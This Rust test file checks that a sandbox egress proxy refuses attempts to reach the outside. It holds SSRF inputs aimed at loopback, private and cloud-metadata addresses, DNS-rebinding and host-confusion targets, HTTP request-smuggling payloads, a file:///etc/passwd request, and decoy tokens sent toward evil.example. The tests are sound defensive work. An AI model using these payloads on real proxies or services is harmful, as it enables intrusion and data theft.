//! Ways out that must be none. Each looks at what the servers saw, what the program was told, and what was written down.

use hyper::Request;
use hyper_util::rt::{TokioExecutor, TokioIo};
use legwork_egress::{Door, Outcome, Pattern, Reach, Rule, Settings};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use crate::world::{Inside, PATIENCE, World, get};

/// A sandbox that may reach everything public, and nothing private: what is private is refused by its address alone.
fn anything(world: &World) -> Inside {
    let mut settings = world.settings(&[]);
    settings.policy.reach = Reach::All;
    settings.opened = legwork_egress::Opened::default();
    world.of(settings)
}

/// CONNECT to this is refused, with these words.
async fn is_refused(inside: &Inside, target: &str, words: &str) {
    let Err(said) = inside.connect(target).await else { panic!("{target} was let through") };
    assert!(said.starts_with("HTTP/1.1 4"), "{target}: {said}");
    let why = inside.denied().await;
    assert!(why.contains(words), "{target}: {why}");
}

#[tokio::test]
async fn names_that_lead_inwards_are_refused_by_their_address() {
    let world = World::new().await;
    let inside = anything(&world);
    for (address, words) in [
        ("127.0.0.1", "loopback"),
        ("127.8.8.8", "loopback"),
        ("10.0.0.1", "private"),
        ("172.16.5.4", "private"),
        ("192.168.1.1", "private"),
        ("169.254.169.254", "metadata"),
        ("100.100.100.200", "carriers"),
        ("0.0.0.0", "this network"),
        ("192.0.2.1", "documentation"),
        ("224.0.0.251", "multicast"),
        ("255.255.255.255", "broadcast"),
        ("::1", "loopback"),
        ("fd00:ec2::254", "private"),
        ("fe80::1", "link-local"),
        ("ff02::1", "multicast"),
        ("::ffff:127.0.0.1", "loopback"),
        ("::ffff:169.254.169.254", "metadata"),
        ("64:ff9b::7f00:1", "loopback"),
        ("2002:7f00:1::", "tunnel"),
        ("2001:0:4136:e378:8000:63bf:80ff:fffe", "tunnel"),
        ("2001:db8::1", "documentation"),
    ] {
        world.name("inward.example", &[&[address]]);
        is_refused(&inside, "inward.example:443", words).await;
    }
}

#[tokio::test]
async fn a_name_with_one_private_address_is_refused_whole() {
    let world = World::new().await;
    let inside = anything(&world);
    world.name("mixed.example", &[&["1.1.1.1", "10.0.0.1"]]);
    is_refused(&inside, "mixed.example:443", "10.0.0.1, which is private").await;
}

#[tokio::test]
async fn addresses_in_any_spelling_are_refused() {
    let world = World::new().await;
    let inside = anything(&world);
    for (target, words) in [
        ("127.0.0.1:443", "loopback"),
        ("[::1]:443", "loopback"),
        ("[::ffff:127.0.0.1]:443", "loopback"),
        ("[::ffff:7f00:1]:443", "loopback"),
        ("[0:0:0:0:0:ffff:7f00:1]:443", "loopback"),
        ("169.254.169.254:443", "metadata"),
        ("127.0.0.1.:443", "loopback"),
        ("2130706433:443", "number"),
        ("0x7f000001:443", "number"),
        ("0x7f.0x0.0x0.0x1:443", "number"),
        ("0177.0.0.1:443", "number"),
        ("017700000001:443", "number"),
        ("127.1:443", "number"),
        ("127.0.1:443", "number"),
        ("127.000.000.001:443", "number"),
        ("1.1.1.1.1:443", "number"),
    ] {
        is_refused(&inside, target, words).await;
    }
}

#[tokio::test]
async fn a_name_that_changes_its_mind_leads_nowhere_else() {
    let world = World::new().await;
    let inside = anything(&world);
    // Public at the first look, private at every other: one look decides, and the connection goes to what was seen.
    world.name("rebind.example", &[&["192.0.2.7"], &["127.0.0.1"]]);
    is_refused(&inside, "rebind.example:443", "192.0.2.7").await;
    let mut settings = world.settings(&["rebind.example"]);
    settings.opened.networks = vec!["127.0.0.9/32".parse().unwrap()];
    let inside = world.of(settings);
    world.name("rebind.example", &[&["127.0.0.9"], &["127.0.0.1"]]);
    let Err(said) = inside.connect(&world.at("rebind.example")).await else { panic!("let through") };
    // It was tried at 127.0.0.9, where nobody listens, and not at the address of the second answer.
    assert!(said.starts_with("HTTP/1.1 502"), "{said}");
    assert!(world.asked().is_empty());
}

#[tokio::test]
async fn what_the_operator_opens_is_open_and_no_more() {
    let world = World::new().await;
    let mut settings = world.settings(&["good.example", "evil.example"]);
    settings.opened =
        legwork_egress::Opened { networks: vec![], hosts: vec!["good.example".parse::<Pattern>().unwrap()] };
    let inside = world.of(settings);
    drop(inside.connect(&world.at("good.example")).await.unwrap());
    // Nothing was said in it: its line comes first.
    assert_eq!(inside.receipts().await.len(), 1);
    is_refused(&inside, &world.at("evil.example"), "loopback").await;
}

#[tokio::test]
async fn hosts_that_are_not_listed_are_refused_however_they_are_written() {
    let world = World::new().await;
    let inside = world.proxy(&["good.example", "*.api.example"]);
    for host in [
        "evil.example",
        "evilgood.example",
        "good.example.evil.example",
        "sub.good.example",
        "api.example",
        "evil-api.example",
        "GOOD.EXAMPLE.evil.example",
        "xn--good-example",
        "good.example..",
        "good_example",
    ] {
        assert!(inside.connect(&world.at(host)).await.is_err(), "{host}");
    }
    assert!(world.asked().is_empty());
}

#[tokio::test]
async fn case_and_a_dot_at_the_end_make_no_other_host() {
    let world = World::new().await;
    let mut settings = world.settings(&["**.good.example"]);
    settings.policy.deny = vec!["www.good.example".parse().unwrap()];
    let inside = world.of(settings);
    assert!(inside.connect(&world.at("GOOD.example.")).await.is_ok());
    for host in ["www.good.example", "WWW.good.example", "www.good.example.", "wWw.GOOD.eXample."] {
        let Err(said) = inside.connect(&world.at(host)).await else { panic!("{host} was let through") };
        assert!(said.contains("www.good.example is denied"), "{said}");
    }
}

#[tokio::test]
async fn targets_that_two_could_read_differently_are_refused() {
    let world = World::new().await;
    let inside = world.proxy(&["good.example"]);
    let port = world.tls_port;
    for target in [
        format!("user@good.example:{port}"),
        format!("evil.example@good.example:{port}"),
        format!("good.example:{port}@evil.example:{port}"),
        format!("good.example%00.evil.example:{port}"),
        format!("good.example%2eevil.example:{port}"),
        format!("good.example#evil.example:{port}"),
        format!("good.example/evil.example:{port}"),
        format!("good.example?evil.example:{port}"),
        format!("good.example\\evil.example:{port}"),
        format!("good.example:{port}:{port}"),
        format!("good.example:0{port}0"),
        "good.example:".to_owned(),
        "good.example".to_owned(),
        "good.example:0".to_owned(),
        "good.example:99999".to_owned(),
        format!("http://good.example:{port}"),
        format!("[good.example]:{port}"),
        format!("g\u{f6}od.example:{port}"),
        format!("good\u{3002}example:{port}"),
        format!("*.example:{port}"),
    ] {
        assert!(inside.connect(&target).await.is_err(), "{target}");
    }
    assert!(world.asked().is_empty());
}

#[tokio::test]
async fn other_ports_are_refused() {
    let world = World::new().await;
    let inside = anything(&world);
    for port in [22, 25, 53, 80, 110, 143, 465, 587, 993, 3306, 5432, 6379, 8080, 8443, 9418] {
        is_refused(&inside, &format!("good.example:{port}"), "only the usual ports").await;
    }
}

#[tokio::test]
async fn the_name_in_the_hello_is_the_one_that_was_asked_for() {
    let world = World::new().await;
    let inside = world.proxy(&["good.example", "other.example"]);
    for sni in ["evil.example", "other.example", "www.good.example"] {
        assert!(inside.tls(&world.at("good.example"), sni, &[]).await.is_err(), "{sni}");
        assert!(inside.denied().await.contains(&format!("its TLS hello names {sni}")));
    }
    // An address as the server's name is no name at all.
    assert!(inside.tls(&world.at("good.example"), "127.0.0.1", &[]).await.is_err());
    assert!(inside.denied().await.contains("names no server"));
    assert!(world.asked().is_empty());
}

#[tokio::test]
async fn a_tunnel_carries_tls_and_nothing_else() {
    let world = World::new().await;
    let inside = world.proxy(&["good.example"]);
    for bytes in [
        &b"SSH-2.0-OpenSSH_9.2\r\n"[..],
        b"GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n",
        b"EHLO evil.example\r\n",
        b"\x16\x03\x01\x00\x05hello",
        b"\x16\x03\x01\xff\xff\x01",
        b"\x80\x2e\x01\x00\x02",
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    ] {
        let mut stream = inside.connect(&world.at("good.example")).await.unwrap();
        let _ = stream.write_all(bytes).await;
        let mut said = Vec::new();
        let _ = tokio::time::timeout(PATIENCE, stream.read_to_end(&mut said)).await.unwrap();
        assert_eq!(said, [0x15, 3, 3, 0, 2, 2, 49], "an alert, and nothing of the host");
        inside.denied().await;
    }
    assert!(world.asked().is_empty());
}

/// A sandbox whose requests to `good.example` are looked into.
fn looked_into(world: &World) -> Inside {
    let mut settings = world.settings(&["other.example"]);
    settings.policy.allow.push(Rule { methods: legwork_egress::Methods::Read, ..world.rule("good.example") });
    world.of(settings)
}

#[tokio::test]
async fn every_host_in_a_request_is_its_connections() {
    let world = World::new().await;
    let inside = looked_into(&world);
    let at = world.at("good.example");
    for request in [
        get("evil.example", "/", ""),
        get(&world.at("other.example"), "/", ""),
        get("good.example", "/", ""),
        get(&at, "https://evil.example/", ""),
        get("evil.example", &format!("https://{at}/"), ""),
        get(&format!("x@{at}"), "/", ""),
        get(&at, "/", "Host: evil.example\r\n"),
        get(&at, "/", &format!("Host: {at}\r\n")),
        "GET / HTTP/1.1\r\nConnection: close\r\n\r\n".to_owned(),
        "GET / HTTP/1.0\r\n\r\n".to_owned(),
        get("", "/", ""),
        get(&format!("{at}, evil.example"), "/", ""),
    ] {
        let said = inside.https(&at, &request).await;
        assert!(said.starts_with("HTTP/1.1 4") || said.starts_with("HTTP/1.0 4"), "{request}: {said}");
    }
    assert!(world.asked().is_empty(), "{:?}", world.asked());
}

#[tokio::test]
async fn the_authority_of_http_2_is_its_connections() {
    let world = World::new().await;
    let inside = looked_into(&world);
    for (authority, host) in [("evil.example", None), (&*world.at("good.example"), Some("evil.example"))] {
        let stream = inside.tls(&world.at("good.example"), "good.example", &["h2"]).await.unwrap();
        let (mut sender, connection) =
            hyper::client::conn::http2::handshake(TokioExecutor::new(), TokioIo::new(stream)).await.unwrap();
        tokio::spawn(connection);
        let mut request = Request::get(format!("https://{authority}/"));
        if let Some(host) = host {
            request = request.header("host", host);
        }
        let response =
            sender.send_request(request.body(http_body_util::Empty::<bytes::Bytes>::new()).unwrap()).await;
        // hyper's own client may refuse to send two that differ; what arrives is refused by us.
        if let Ok(response) = response {
            assert!(response.status().is_client_error(), "{authority}: {response:?}");
        }
    }
    assert!(world.asked().is_empty(), "{:?}", world.asked());
}

#[tokio::test]
async fn requests_with_two_ends_do_not_arrive() {
    let world = World::new().await;
    let mut settings = world.settings(&["http://good.example"]);
    settings.policy.allow.push(world.rule("http://other.example"));
    let inside = world.of(settings);
    let at = world.http_at("good.example");
    let hidden = format!("GET /hidden HTTP/1.1\r\nHost: {at}\r\n\r\n");
    let post = |headers: &str, body: &str| {
        format!("POST http://{at}/ HTTP/1.1\r\nHost: {at}\r\n{headers}\r\n{body}")
    };
    let length = hidden.len() + 5;
    for request in [
        post(
            &format!("Content-Length: {length}\r\nTransfer-Encoding: chunked\r\n"),
            &format!("0\r\n\r\n{hidden}"),
        ),
        post(
            &format!("Transfer-Encoding: chunked\r\nContent-Length: {length}\r\n"),
            &format!("0\r\n\r\n{hidden}"),
        ),
        post(&format!("Content-Length: 0\r\nContent-Length: {length}\r\n"), &hidden),
        post("Transfer-Encoding: xchunked\r\n", &hidden),
        post("Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n", &format!("0\r\n\r\n{hidden}")),
        post("Transfer-Encoding : chunked\r\n", &format!("0\r\n\r\n{hidden}")),
        post("Content-Length: +5\r\n", "abcde"),
        post("Content-Length: 5, 5\r\n", "abcde"),
        format!("GET http://{at}/ HTTP/1.1\r\nHost: {at}\r\nX: a\r\n\r\n\u{0}{hidden}"),
        format!("GET http://{at}/\r\n\r\n"),
        format!("GET  http://{at}/ HTTP/1.1 evil\r\nHost: {at}\r\n\r\n"),
        format!("GET http://{at}/ HTTP/1.1\r\nHost: {at}\r\nX: a\r\n folded: b\r\n\r\n"),
        format!("GET http://{at}/ HTTP/1.1\nHost: evil.example\r\n\r\n"),
    ] {
        let said = inside.raw(Door::Proxy, request.as_bytes()).await;
        // The first of two may be answered; the hidden one is not one of them.
        assert!(!said.contains("hidden"), "{request:?}: {said}");
    }
    let targets: Vec<_> = world.asked().into_iter().map(|asked| asked.target).collect();
    assert!(targets.iter().all(|target| target != "/hidden"), "{targets:?}");
}

#[tokio::test]
async fn one_connection_is_asked_anew_for_each_host() {
    let world = World::new().await;
    let inside = world.proxy(&["http://good.example"]);
    let (good, evil) = (world.http_at("good.example"), world.http_at("evil.example"));
    let first = format!("GET http://{good}/one HTTP/1.1\r\nHost: {good}\r\n\r\n");
    let second = get(&evil, &format!("http://{evil}/two"), "");
    let said = inside.raw(Door::Proxy, format!("{first}{second}").as_bytes()).await;
    assert!(said.contains("welcome") && said.contains("403"), "{said}");
    assert_eq!(world.asked().len(), 1);
}

#[tokio::test]
async fn plain_http_needs_to_be_listed() {
    let world = World::new().await;
    let mut settings = world.settings(&[]);
    settings.policy.allow =
        vec![Rule { port: Some(world.http_port), ..Rule::to("good.example".parse().unwrap()) }];
    let inside = world.of(settings);
    let at = world.http_at("good.example");
    let said = inside.raw(Door::Proxy, get(&at, &format!("http://{at}/"), "").as_bytes()).await;
    assert!(said.starts_with("HTTP/1.1 403") && said.contains("over https only"), "{said}");
    let said = inside.raw(Door::Http, get(&at, "/", "").as_bytes()).await;
    assert!(said.starts_with("HTTP/1.1 403"), "{said}");
    assert!(world.asked().is_empty());
}

#[tokio::test]
async fn the_proxy_is_no_server_and_speaks_for_no_scheme_but_http() {
    let world = World::new().await;
    let inside = world.proxy(&["good.example", "http://good.example"]);
    let at = world.http_at("good.example");
    for request in [
        get(&at, "/", ""),
        get(&at, &format!("https://{}/", world.at("good.example")), ""),
        get(&at, &format!("ftp://{at}/"), ""),
        get(&at, "file:///etc/passwd", ""),
        get(&at, "gopher://good.example/", ""),
        "OPTIONS * HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".to_owned(),
        get(&world.http_at("evil.example"), &format!("http://{at}/"), ""),
        get(&at, &format!("http://{}/", world.http_at("evil.example")), ""),
    ] {
        let said = inside.raw(Door::Proxy, request.as_bytes()).await;
        assert!(said.starts_with("HTTP/1.1 4"), "{request}: {said}");
    }
    assert!(world.asked().is_empty(), "{:?}", world.asked());
}

#[tokio::test]
async fn changes_of_protocol_and_odd_methods_are_not_passed_on() {
    let world = World::new().await;
    let inside = world.proxy(&["http://good.example"]);
    let at = world.http_at("good.example");
    for request in [
        get(&at, &format!("http://{at}/"), "Upgrade: websocket\r\n"),
        get(&at, &format!("http://{at}/"), "Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n"),
        format!("TRACE http://{at}/ HTTP/1.1\r\nHost: {at}\r\nConnection: close\r\n\r\n"),
    ] {
        let said = inside.raw(Door::Proxy, request.as_bytes()).await;
        assert!(said.starts_with("HTTP/1.1 403"), "{request}: {said}");
    }
    // HTTP/2 without TLS is not spoken here.
    let said = inside.raw(Door::Proxy, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await;
    assert!(!said.contains("200"), "{said}");
    assert!(world.asked().is_empty());
}

#[tokio::test]
async fn headers_for_one_hop_do_not_arrive() {
    let world = World::new().await;
    let inside = world.proxy(&["http://good.example"]);
    let at = world.http_at("good.example");
    let headers = "Proxy-Authorization: Basic x\r\nProxy-Connection: keep-alive\r\nTE: trailers\r\nX-Hop: 1\r\nKeep-Alive: 5\r\n";
    let request =
        format!("GET http://{at}/ HTTP/1.1\r\nHost: {at}\r\nConnection: close, X-Hop\r\n{headers}\r\n");
    inside.raw(Door::Proxy, request.as_bytes()).await;
    let names: Vec<_> = world.asked()[0].headers.iter().map(|(name, _)| name.clone()).collect();
    assert_eq!(names, ["host"], "{names:?}");
}

#[tokio::test]
async fn answers_lead_nobody_past_the_proxy() {
    let world = World::new().await;
    let inside = world.proxy(&["http://good.example"]);
    let at = world.http_at("good.example");
    let said = inside.raw(Door::Proxy, get(&at, &format!("http://{at}/alternative"), "").as_bytes()).await;
    assert!(said.contains("welcome") && !said.to_lowercase().contains("alt-svc"), "{said}");
}

#[tokio::test]
async fn a_decoy_in_anything_that_leaves_raises_the_alarm() {
    const DECOY: &str = "lwc_5f1d2c3b4a59687786958473625140aa";
    let world = World::new().await;
    let at = world.http_at("good.example");
    let encoded = "bHdjXzVmMWQyYzNiNGE1OTY4Nzc4Njk1ODQ3MzYyNTE0MGFh";
    for request in [
        get(&at, &format!("http://{at}/?x={DECOY}"), ""),
        get(&at, &format!("http://{at}/"), &format!("X-Data: {encoded}\r\n")),
        format!(
            "POST http://{at}/ HTTP/1.1\r\nHost: {at}\r\nContent-Length: 36\r\nConnection: close\r\n\r\n{DECOY}"
        ),
        format!("CONNECT {DECOY}.evil.example:443 HTTP/1.1\r\nConnection: close\r\n\r\n"),
        // A host that is not allowed is told nothing, and who tries it is heard.
        get(&at, &format!("http://evil.example/?x={DECOY}"), ""),
    ] {
        let inside = world.with_decoy(&["http://good.example"], DECOY);
        assert!(!inside.proxy.is_alarmed());
        let said = inside.raw(Door::Proxy, request.as_bytes()).await;
        assert!(said.starts_with("HTTP/1.1 403"), "{request}: {said}");
        assert!(inside.proxy.is_alarmed(), "{request}");
        // From now on nothing leaves.
        let said = inside.raw(Door::Proxy, get(&at, &format!("http://{at}/"), "").as_bytes()).await;
        assert!(said.starts_with("HTTP/1.1 403"), "{said}");
    }
    assert!(!world.all_that_left().contains(DECOY) && !world.all_that_left().contains(encoded));
}

#[tokio::test]
async fn the_operators_own_proxy_is_used_and_private_names_stay_refused() {
    let world = World::new().await;
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let target = world.tls_port;
    let asked = tokio::spawn(async move {
        let (mut stream, _) = listener.accept().await.unwrap();
        let mut head = Vec::new();
        while !head.ends_with(b"\r\n\r\n") {
            head.push(stream.read_u8().await.unwrap());
        }
        stream.write_all(b"HTTP/1.1 200 OK\r\n\r\n").await.unwrap();
        let mut server = tokio::net::TcpStream::connect(("127.0.0.1", target)).await.unwrap();
        let _ = tokio::io::copy_bidirectional(&mut stream, &mut server).await;
        String::from_utf8(head).unwrap()
    });
    let upstream = legwork_egress::Upstream {
        authority: legwork_egress::Authority::parse(&format!("127.0.0.1:{port}"), None).unwrap(),
        login: Some("me:pw".into()),
    };
    let mut settings =
        Settings { upstream: Some(upstream), ..world.settings(&["good.example", "inward.example"]) };
    settings.opened =
        legwork_egress::Opened { networks: vec![], hosts: vec!["good.example".parse().unwrap()] };
    let inside = world.of(settings);
    world.name("inward.example", &[&["169.254.169.254"]]);
    is_refused(&inside, &world.at("inward.example"), "metadata").await;
    let at = world.at("good.example");
    assert!(inside.https(&at, &get(&at, "/", "")).await.ends_with("welcome"));
    let head = asked.await.unwrap();
    assert!(
        head.starts_with(&format!("CONNECT {at} HTTP/1.1\r\n")) && head.contains("Basic bWU6cHc="),
        "{head}"
    );
    let receipts = inside.receipts().await;
    assert!(matches!(receipts[0].matter.outcome, Outcome::Allowed(_)), "{receipts:?}");
}
